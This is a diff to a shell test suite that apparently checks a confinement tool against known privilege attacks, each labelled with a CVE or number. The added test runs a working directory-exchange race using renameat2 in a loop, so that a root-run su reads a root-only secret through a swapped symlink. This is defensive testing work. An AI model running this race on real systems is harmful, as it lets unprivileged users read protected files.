@@ -124,6 +124,35 @@ attack CVE-2024-21626 "descriptor 9 of the login program is the host's root (run
 attack CVE-2024-21626.2 "the same with confinectl run" "all beyond 2 are closed when the command begins" 'leaks "$build/confinectl" --runtime-dir=/run/confine run --policy 30-root -- $try fd 9' 'leaks env $try fd 9'
 standing() { (cd /srv/hidden && timeout 20 su "$1" -c 'cat file 2>/dev/null || cat ../hidden/file 2>/dev/null' | grep -q secret && echo hit || echo refused); }
 attack CVE-2024-21626.3 "the working directory of the login program is hidden in the cell" "the directory is found anew by its name" 'standing alice' 'standing bob'
+
+# Bob exchanges the directory that root is in for a link to one of root's, which nobody else gets into.
+exchanged() { # COMMAND...: 60 times, in that directory
+        mkdir -p /srv/private/open /home/bob/work
+        echo secret > /srv/private/open/file
+        chmod 700 /srv/private
+        ln -s /srv/private/open /home/bob/other
+        chown -h bob: /home/bob/work /home/bob/other
+        setpriv --reuid "$(id -u bob)" --clear-groups python3 -c '
+import ctypes
+c = ctypes.CDLL(None)
+while True: c.renameat2(-100, b"/home/bob/work", -100, b"/home/bob/other", 2)' &
+        racer=$!
+        disown $racer
+        verdict="refused: 60 times"
+        for _ in $(seq 60); do
+                (
+                        until cd -P /home/bob/work 2> /dev/null && [ "$(stat -c %U .)" = bob ]; do :; done
+                        timeout 20 "$@"
+                ) 2> /dev/null | grep -q secret && { verdict=hit; break; }
+        done
+        kill $racer || verdict="nobody raced"
+        rm -rf /home/bob/work /home/bob/other
+        echo "$verdict"
+}
+by_name() { for d in work other; do (cd /home/bob/$d && setpriv --reuid "$(id -u bob)" --clear-groups cat file); done; }
+export -f by_name
+attack 19.4 "the user exchanges the directory that root runs su in for a link to one of root's" "it has to be the same as before, or one that the user has access to" 'exchanged su bob -c "cat file"' 'exchanged bash -c by_name'
+
 set_ids() { grep -oE '[0-7]{3,4}:\$\(B\)/[a-z_.-]+' "$here/Makefile" | grep -E '^[0-7]{4}' > "$LAB_DIR/modes"; if [ -s "$LAB_DIR/modes" ]; then echo hit; else echo "refused: there is none"; fi; }
 attack CVE-2020-5291 "rights of a set-user-ID program of ours (bubblewrap)" "nothing that is installed is set-user-ID" set_ids 'not shown: there is no such program'
 
